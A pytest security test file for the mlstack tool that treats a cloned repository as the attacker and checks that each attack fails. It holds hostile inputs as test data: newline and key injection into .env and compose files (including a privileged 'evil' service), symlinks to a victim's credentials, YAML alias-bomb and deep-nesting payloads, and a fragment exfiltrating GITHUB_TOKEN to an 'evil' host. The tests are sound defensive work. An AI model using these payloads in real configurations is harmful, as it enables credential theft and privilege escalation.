"""A cloned repo as the attacker: its mlstack.yaml and mlstack.local.yaml try to reach past the
project (another project's volumes, the victim's shell), inject lines into ``.env`` or keys into
compose files, or leak a secret. Each attack is one clear InputError, or is shown to hold.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from fakes import FakeEngine, fake_environment

from mlstack.errors import InputError, MlstackError
from mlstack.run import operate
from mlstack.run.records import ServiceState
from mlstack.spec.local import settings_from
from mlstack.spec.schema import validate

pytestmark = pytest.mark.usefixtures("cpu_only_host")


@pytest.mark.parametrize(
    "doc",
    [
        {"name": "demo\n"},  # would end COMPOSE_PROJECT_NAME's .env line with a blank one
        {"images": {"redis": "redis:8.2\n"}},
        {"gpu": {"devices": ["0\n"]}},
    ],
)
def test_a_trailing_newline_does_not_pass_an_anchored_pattern(doc: dict[str, Any]) -> None:
    # Python's $ also matches before a final newline: "demo\n" passed ^[a-z0-9]...$
    with pytest.raises(InputError):
        settings_from(doc)


@pytest.mark.parametrize(
    ("services", "field"),
    [
        ({"api": {"secrets": ["APP_KEY\n"]}}, "services.api.secrets[0]"),
        ({"api": {"env": {"MODE": "a\n"}}}, "services.api.env.MODE"),
        ({"api": {"resources": {"memory": "2g\n"}}}, "services.api.resources.memory"),
    ],
)
def test_a_trailing_newline_in_mlstack_yaml_is_refused(services: Any, field: str) -> None:
    doc = {"name": "demo", "components": ["api"], "services": services}
    with pytest.raises(InputError) as caught:
        validate(doc, "spec", "mlstack.yaml", "fix it")
    assert caught.value.field == field


def test_down_refuses_a_project_another_checkout_runs(tmp_path: Path, make_stack: Any) -> None:
    # the clone names the victim's project (mlstack.local.yaml name:, or mlstack.yaml name:)
    victim = make_stack(tmp_path / "victim", "--name", "demo", "--with", "redis")
    clone = make_stack(tmp_path / "clone", "--name", "other", "--with", "redis")
    (clone / "mlstack.local.yaml").write_text("name: demo\n")
    theirs = ServiceState("redis", "demo-redis-1", "running", "healthy", None, str(victim))
    engine = FakeEngine(frames=[{"redis": theirs}])
    with pytest.raises(MlstackError) as caught:
        operate.down(clone, volumes=True, env=fake_environment(engine))
    assert str(victim) in caught.value.problem and "--volumes" in caught.value.problem
    assert caught.value.exit_code == 2
    assert ("down", True) not in engine.calls
    operate.down(victim, volumes=False, env=fake_environment(engine))  # its own: stopped
    assert engine.calls == [("down", False)]


@pytest.fixture(name="clone")
def clone_fixture(tmp_path: Path, make_stack: Any) -> Path:
    return make_stack(tmp_path / "clone", "--with", "api,redis,postgres", "--name", "demo")


@pytest.fixture(name="credentials")
def credentials_fixture(tmp_path: Path) -> Path:
    """The victim's file outside the project that a link in the clone points at."""
    victim = tmp_path / "home" / "credentials"
    victim.parent.mkdir()
    victim.write_text("name: stolen-token-value\n")
    return victim


@pytest.mark.parametrize("command", ["render", "status", "doctor", "validate"])
def test_a_linked_local_file_is_never_read(
    clone: Path, credentials: Path, cli: Any, command: str
) -> None:
    (clone / "mlstack.local.yaml").symlink_to(credentials)
    result = cli("-C", clone, command)
    assert result.exit_code == (1 if command == "doctor" else 2), result.output  # doctor: a report
    assert "mlstack.local.yaml" in result.output and "stolen-token-value" not in result.output
    env = clone / ".env"
    assert not env.exists() or "stolen" not in env.read_text()


def test_a_linked_compose_local_file_is_not_written_through(clone: Path, credentials: Path) -> None:
    from mlstack.run.local_compose import write_local_compose

    (clone / "compose.local.yaml").symlink_to(credentials)
    with pytest.raises(InputError):
        write_local_compose(clone, {"services": {"redis": {"image": "mirror/redis:8"}}})
    with pytest.raises(InputError):
        write_local_compose(clone, {})  # nor removed through
    assert credentials.read_text() == "name: stolen-token-value\n"


@pytest.mark.parametrize(
    "text",
    [
        'a: &a ["x","x","x","x","x","x","x","x","x"]\n'
        + "".join(
            f"{c}: &{c} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n"
            for p, c in zip("abcdefgh", "bcdefghi", strict=True)
        ),
        "name: " + "x" * 3_000_000 + "\n",
        "ports: " + "[" * 5000 + "]" * 5000 + "\n",
    ],
    ids=["alias-bomb", "huge", "deep"],
)
def test_a_hostile_local_file_is_one_bounded_error(
    clone: Path, cli: Any, tree_state: Any, text: str
) -> None:
    import time

    (clone / "mlstack.local.yaml").write_text(text)
    before = tree_state(clone)
    start = time.monotonic()
    result = cli("-C", clone, "render")
    assert result.exit_code == 2, result.output[-400:]
    assert result.output.startswith("error: mlstack.local.yaml"), result.output[:400]
    assert time.monotonic() - start < 10
    assert tree_state(clone) == before  # nothing half-written


@pytest.mark.parametrize(
    "devices",
    ['"0\\nservices: {evil: {privileged: true}}"', '"all ]}"', "['0', '1: {x}']", "'${HOME}'"],
)
def test_devices_cannot_inject_compose_keys(devices: str) -> None:
    from mlstack.spec.yamlio import load_text

    with pytest.raises(InputError) as caught:
        settings_from(load_text(f"gpu: {{devices: {devices}}}\n", "mlstack.local.yaml"))
    assert caught.value.field.startswith("gpu.devices")


def test_a_generated_secret_named_like_a_shell_credential_stops_up(
    clone: Path, cli: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # compose takes the shell's value over .env's: the clone's api would get the victim's token
    from mlstack.run.env_checks import check_user_secrets
    from mlstack.spec.catalog import load_catalog
    from mlstack.spec.stack_spec import load_spec

    with (clone / "mlstack.yaml").open("a") as handle:
        handle.write("services:\n  api:\n    secrets: [GITHUB_TOKEN]\n")
    assert cli("-C", clone, "render").exit_code == 0
    spec = load_spec(clone, load_catalog(clone))
    assert check_user_secrets(clone, spec).status == "ok"
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-victims-real-token")
    check = check_user_secrets(clone, spec)
    assert check.status == "fail" and "GITHUB_TOKEN (api)" in check.found
    assert "ghp-victims" not in check.found + check.fix
    assert "GITHUB_TOKEN (compose files)" in check_user_secrets(clone, spec, ["redis"]).found
    result = cli("-C", clone, "doctor")
    assert "GITHUB_TOKEN (api)" in result.output and "ghp-victims" not in result.output
    engine = FakeEngine(images={"redis:8.10-alpine", "postgres:17-alpine"})
    monkeypatch.setattr("mlstack.run.engine.Engine", engine.connect)
    result = cli("-C", clone, "up")
    assert result.exit_code == 1 and "secrets: your shell sets GITHUB_TOKEN" in result.output
    assert [c for c in engine.calls if c[0] in ("up", "build", "pull")] == []


@pytest.mark.parametrize(
    ("secret", "words"),
    [
        ("PIP_INDEX_CREDENTIALS", "pip index's credential"),
        ("{name: PIP_INDEX_CREDENTIALS, from: user}", "pip index's credential"),
        ("DOCKER_HOST", "a setting of compose"),
        ("BUILDKIT_PROGRESS", "a setting of compose"),
        ("COMPOSE_FILE", "a setting of compose"),
    ],
)
def test_a_secret_cannot_take_a_tool_setting_or_the_build_credential(
    clone: Path, cli: Any, tree_state: Any, secret: str, words: str
) -> None:
    with (clone / "mlstack.yaml").open("a") as handle:
        handle.write(f"services:\n  api:\n    secrets: [{secret}]\n")
    before = tree_state(clone)
    result = cli("-C", clone, "render")
    assert result.exit_code == 2, result.output
    assert "mlstack.yaml: services.api.secrets[0]" in result.output and words in result.output
    assert tree_state(clone) == before


@pytest.mark.judge
def test_env_values_cannot_interpolate_a_secret_into_a_service(
    clone: Path, cli: Any, require: Any
) -> None:
    """The judge: compose's own reading of the files hands api the text, never the password."""
    import json
    import subprocess

    require("docker compose")
    with (clone / "mlstack.yaml").open("a") as handle:
        handle.write(
            "services:\n  api:\n    env:\n      LEAK_A: ${POSTGRES_PASSWORD}\n"
            "      LEAK_B: $POSTGRES_PASSWORD\n      LEAK_C: ${HOME:-x}\n"
        )
    assert cli("-C", clone, "render").exit_code == 0
    password = (clone / ".env").read_text().split("POSTGRES_PASSWORD=")[1].split("\n")[0]
    out = subprocess.run(
        ["docker", "compose", "config", "--format", "json"],
        cwd=clone,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    env = json.loads(out)["services"]["api"]["environment"]
    leaks = {k: v for k, v in env.items() if k.startswith("LEAK")}
    assert len(leaks) == 3 and all("$$" in v for v in leaks.values())  # literal: config re-escapes
    assert password not in json.dumps(leaks) and str(Path.home()) not in json.dumps(leaks)


def test_the_unused_keys_note_names_keys_never_values(clone: Path, cli: Any) -> None:
    with (clone / ".env").open("a") as handle:
        handle.write("OLD_TOKEN=s3cr3t-left-over\nOTHER='quoted s3cr3t'\n")
    result = cli("-C", clone, "render")
    assert "OLD_TOKEN, OTHER" in result.output and "s3cr3t" not in result.output
    doctor = cli("-C", clone, "doctor", "--json")
    assert "OLD_TOKEN" in doctor.stdout and "s3cr3t" not in doctor.output


def test_free_ports_never_writes_through_a_linked_local_file(
    clone: Path, credentials: Path
) -> None:
    from mlstack.run.free_ports import Claimed, write_local

    (clone / "mlstack.local.yaml").symlink_to(credentials)
    with pytest.raises(InputError):
        write_local(clone, Claimed(name="demo-abc123", ports={"api": (8000, 18000)}))
    assert credentials.read_text() == "name: stolen-token-value\n"
    assert (clone / "mlstack.local.yaml").is_symlink()


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ("ports: {api: '0.0.0.0:8000'}\n", "ports.api"),
        ("ports: {api: 70000}\n", "ports.api"),
        ("ports: {api: 8000.0}\n", "ports.api"),
        ("name: 'demo\nCOMPOSE_FILE=/etc/x'\n", "name"),
        ("name: ${USER}\n", "name"),
        ("images: {redis: 'redis:8 ${HOME}'}\n", "images.redis"),
        ("images: {mirror: 'm.local/\nx: y'}\n", "images.mirror"),
    ],
)
def test_local_values_cannot_bind_everywhere_or_inject_env_lines(
    clone: Path, cli: Any, tree_state: Any, text: str, field: str
) -> None:
    (clone / "mlstack.local.yaml").write_text(text)
    before = tree_state(clone)
    result = cli("-C", clone, "render")
    assert result.exit_code == 2, result.output
    assert result.output.startswith(f"error: mlstack.local.yaml: {field}"), result.output
    assert tree_state(clone) == before


def test_uses_gives_settings_never_the_used_services_privileges(
    tmp_path: Path, make_stack: Any, cli: Any
) -> None:
    from ruamel.yaml import YAML

    root = make_stack(tmp_path / "stack", "--with", "api,jupyter,redis")
    before = YAML(typ="safe").load((root / "compose.yaml").read_text())["services"]["api"]
    with (root / "mlstack.yaml").open("a") as handle:
        handle.write("services:\n  api:\n    uses: [jupyter]\n")
    assert cli("-C", root, "render").exit_code == 0
    after = YAML(typ="safe").load((root / "compose.yaml").read_text())["services"]["api"]
    changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
    assert changed == {"depends_on"} or changed == {"environment", "depends_on"}
    assert "jupyter" in after["depends_on"]


EVIL = """\
name: evil
summary: a cloned repo's fragment that reads the user's shell
image: evil
images:
  evil: registry.example.com/evil:1
serves: [api]
provides:
  EVIL_URL: http://evil:7000/?t=${GITHUB_TOKEN:-none}
service:
  environment:
    HOME_DIR: $HOME
  healthcheck:
    test: [CMD, /bin/true]
"""


def test_a_fragment_reading_the_shell_stops_up(
    clone: Path, cli: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mlstack.run.env_checks import check_user_secrets
    from mlstack.spec.catalog import load_catalog
    from mlstack.spec.stack_spec import load_spec

    (clone / "stacks").mkdir()
    (clone / "stacks" / "evil.yaml").write_text(EVIL)
    assert cli("-C", clone, "add", "evil").exit_code == 0
    spec = load_spec(clone, load_catalog(clone))
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    monkeypatch.delenv("HOME")
    assert check_user_secrets(clone, spec).status == "ok"
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-victims-real-token")
    monkeypatch.setenv("HOME", "/home/victim")
    check = check_user_secrets(clone, spec)
    assert check.status == "fail", check
    assert "GITHUB_TOKEN (compose files), HOME (compose files)" in check.found
    assert "ghp-victims" not in check.found + check.fix and "/home/victim" not in check.found
